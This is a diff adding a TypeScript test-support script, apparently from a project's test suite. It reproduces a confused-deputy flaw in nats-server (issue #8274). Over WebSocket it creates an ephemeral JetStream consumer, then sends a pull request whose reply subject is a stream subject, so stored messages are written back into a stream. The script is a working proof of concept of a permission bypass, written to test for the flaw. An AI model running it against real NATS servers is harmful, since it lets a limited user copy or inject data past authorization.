@@ -1,0 +1,53 @@
+/**
+ * The confused-deputy request of nats-server #8274, made as a browser role over WebSocket in a process of
+ * its own: create an ephemeral consumer (as an ordered consumer does), then send it a pull request whose
+ * reply subject is a stream subject. The server delivers the stored messages there, and the stream stores
+ * them again. Prints one JSON line: {"consumer": name, "pending": n} or {"error": kind, "message": …}.
+ *
+ *   node --import tsx test/support/ws-deputy-pull.ts <ws://url> <user> <stream> <filter> <reply subject> [start seq]
+ */
+import { nuid } from '@nats-io/nats-core';
+import { classifyNatsError } from '../../src/nats/errors';
+import { connectWs } from './ws-nats';
+import { PASSWORDS, type User } from './users';
+
+const [url, user, stream, filter, reply, startSeq] = process.argv.slice(2);
+if (!url || !user || !stream || !filter || !reply || !(user in PASSWORDS)) {
+  throw new Error('usage: ws-deputy-pull.ts <url> <user> <stream> <filter> <reply>');
+}
+const nc = await connectWs(url, user as User);
+try {
+  const name = `deputy_${nuid.next()}`;
+  const created = await nc.request(
+    `$JS.API.CONSUMER.CREATE.${stream}.${name}.${filter}`,
+    JSON.stringify({
+      stream_name: stream,
+      config: {
+        name,
+        filter_subject: filter,
+        // The requester picks which old events are copied, e.g. only the sales of one product.
+        ...(startSeq !== undefined
+          ? { deliver_policy: 'by_start_sequence', opt_start_seq: Number(startSeq) }
+          : { deliver_policy: 'all' }),
+        ack_policy: 'none',
+        mem_storage: true,
+        num_replicas: 1,
+        inactive_threshold: 30_000_000_000,
+      },
+    }),
+    { timeout: 5000 },
+  );
+  const info = created.json<{ num_pending?: number; error?: { description: string } }>();
+  if (info.error) throw new Error(`consumer create refused: ${info.error.description}`);
+  // A pull request is a plain publish: nothing checks its reply subject against the stream's subjects.
+  nc.publish(`$JS.API.CONSUMER.MSG.NEXT.${stream}.${name}`, JSON.stringify({ batch: 100, no_wait: true }), {
+    reply,
+  });
+  await nc.flush();
+  console.log(JSON.stringify({ consumer: name, pending: info.num_pending ?? 0 }));
+} catch (err) {
+  const c = classifyNatsError(err);
+  console.log(JSON.stringify({ error: c.kind, message: c.message }));
+} finally {
+  await nc.close();
+}
